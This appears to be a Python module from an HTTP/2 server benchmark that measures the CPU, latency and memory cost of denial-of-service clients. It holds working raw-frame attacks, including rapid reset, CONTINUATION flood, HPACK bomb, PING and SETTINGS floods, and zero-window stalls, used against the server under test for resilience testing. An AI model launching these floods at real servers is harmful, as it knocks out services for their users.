"""The section h2-attacks: what a client of HTTP/2 that only costs takes from a server: processor, the latency of others, memory.

An attack is a process that keeps one connection, as fast as the server takes its bytes. When the server ends it, the next one
begins a second later: further connections are the matter of firewalls and of max_connections.
"""
import contextlib
import itertools
import multiprocessing
import os
import ssl
import struct
import time

from measure import cpu_now, memory
from measure_http2 import (CREDIT, DATA, END, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_MAX,
                           WINDOW_UPDATE, Client, connect_tls, frame)
from servers import Failed

CONTINUATION, PRIORITY, PRIORITY_UPDATE = 9, 2, 16
SECONDS = 10  # of each attack
EVERY_S = 0.02  # between the requests of another client
ONE, LARGE = struct.pack(">I", 1), struct.pack(">I", WINDOW_MAX)


def literal(*fields):
    """Fields of a header block, which no table keeps."""
    return b"".join(b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


def get(target, *more):
    return b"\x82\x87\x41\x05bench\x04" + bytes([len(target)]) + target + literal(*more)


POST = b"\x83\x87\x41\x05bench\x04\x05/hold"
BOMB = get(b"/") + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12000


def each(make):
    """make(stream) for streams 1, 3, 5 ..."""
    return (make(stream) for stream in itertools.count(1, 2))


def opened(stream=1):
    return frame(HEADERS, END_HEADERS, stream, POST)


def begun(first, rest):
    """`first`, then `rest` again and again."""
    return itertools.chain([first], itertools.repeat(rest * (16384 // len(rest) + 1)))


def held(target, *windows):
    """128 requests for a target, then `windows` of each stream again and again."""
    streams = range(1, 257, 2)
    yield b"".join(frame(HEADERS, END | END_HEADERS, stream, get(target)) for stream in streams)
    while windows:
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, windows[0]) for stream in streams)


# name: (the pieces that it sends, SETTINGS of its client, whether it reads)
ATTACKS = {
    "rapid reset": (lambda: each(lambda s: frame(HEADERS, END | END_HEADERS, s, get(b"/")) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")), {}, True),
    "made-you-reset: windows": (lambda: each(lambda s: opened(s) + frame(WINDOW_UPDATE, 0, s, LARGE)), {}, True),
    "made-you-reset: fields": (lambda: each(lambda s: frame(HEADERS, END | END_HEADERS, s, get(b"/", (b"te", b"x")))), {}, True),
    "more streams than allowed": (lambda: each(opened), {}, True),
    "CONTINUATION": (lambda: begun(frame(HEADERS, END, 1, get(b"/")), frame(CONTINUATION, 0, 1, literal((b"a", b"b")))), {}, True),
    "HPACK bomb": (lambda: each(lambda s: frame(HEADERS, END | END_HEADERS, s, BOMB)), {}, True),
    "PING": (lambda: begun(b"", frame(PING, 0, 0, b"12345678")), {}, True),
    "PING, answers unread": (lambda: begun(b"", frame(PING, 0, 0, b"12345678")), {}, False),
    "SETTINGS": (lambda: begun(b"", frame(SETTINGS)), {}, True),
    "empty DATA": (lambda: begun(opened(), frame(DATA, 0, 1)), {}, True),
    "DATA of 1 byte": (lambda: begun(opened(), frame(DATA, 0, 1, b"x")), {}, True),
    "padding": (lambda: begun(opened(), frame(DATA, 8, 1, b"\xff" + bytes(255))), {}, True),
    "WINDOW_UPDATE": (lambda: begun(opened(), frame(WINDOW_UPDATE, 0, 1, ONE)), {}, True),
    "PRIORITY": (lambda: begun(b"", frame(PRIORITY, 0, 1, b"\0\0\0\x03\x01")), {}, True),
    "PRIORITY_UPDATE": (lambda: begun(b"", frame(PRIORITY_UPDATE, 0, 0, ONE + b"u=1")), {}, True),
    "unknown frames": (lambda: begun(b"", frame(99)), {}, True),
    "windows of 1 byte": (lambda: held(b"/10m", ONE), {INITIAL_WINDOW_SIZE: 0}, True),
    "windows that stay 0": (lambda: held(b"/10m"), {INITIAL_WINDOW_SIZE: 0}, True),
    "responses unread": (lambda: held(b"/10m"), {INITIAL_WINDOW_SIZE: WINDOW_MAX}, False),
}


def attack(server, name, until):
    """The process of an attack."""
    os.nice(10)  # the other client shares its core
    make, settings, reads = ATTACKS[name]
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect_tls(server, "h2") as sock:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in settings.items()))
                         + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", CREDIT)))
            assail(sock, make(), reads, until)
        time.sleep(1)


def assail(sock, pieces, reads, until):
    sock.setblocking(False)
    data, ended = b"", False
    while time.monotonic() < until:
        while len(data) < 16384 and not ended:
            piece = next(pieces, None)
            ended = piece is None
            data += piece or b""
        idle = True
        with contextlib.suppress(ssl.SSLWantWriteError, ssl.SSLWantReadError):
            if data:
                data = data[sock.send(data[:16384]):]
                idle = False
        with contextlib.suppress(ssl.SSLWantReadError):
            if reads and not sock.recv(1 << 16):
                return
        if idle:
            time.sleep(0.001)


def cost(server, name, **_):
    """-> the share of a core, the latencies of another client in milliseconds, the growth of the memory in bytes."""
    times, lags = [], []
    with Client(server) as other:
        for _ in range(200):
            other.get("/")
        before, began = memory(server.pids())[1], time.monotonic()
        busy = cpu_now(server.pids())[0]
        process = multiprocessing.get_context("fork").Process(target=attack, args=(server, name, began + SECONDS))
        process.start()
        while (due := began + len(times) * EVERY_S) < began + SECONDS:
            time.sleep(max(due - time.monotonic(), 0))
            lags.append(time.monotonic() - due)
            other.get("/")
            times.append(time.monotonic() - due)
        share = (cpu_now(server.pids())[0] - busy) / 1e6 / SECONDS
        process.join(20)
        after = memory(server.pids())[1]
    if process.exitcode != 0:
        raise Failed(f"{name}: the attack ended with {process.exitcode}")
    times.sort()
    lags.sort()
    return {"share": share, "p99_ms": times[len(times) * 99 // 100] * 1000, "max_ms": times[-1] * 1000,
            "lag_p99_ms": lags[len(lags) * 99 // 100] * 1000, "growth": after - before, "failures": 0}


def catalogue(at):
    """Its servers are those of measure_http2."""
    return {}


SECTIONS = {"h2-attacks": ({f"luaserve h2, {name}": ("luaserve h2 default threads", {"name": name}) for name in ATTACKS}, cost, {})}
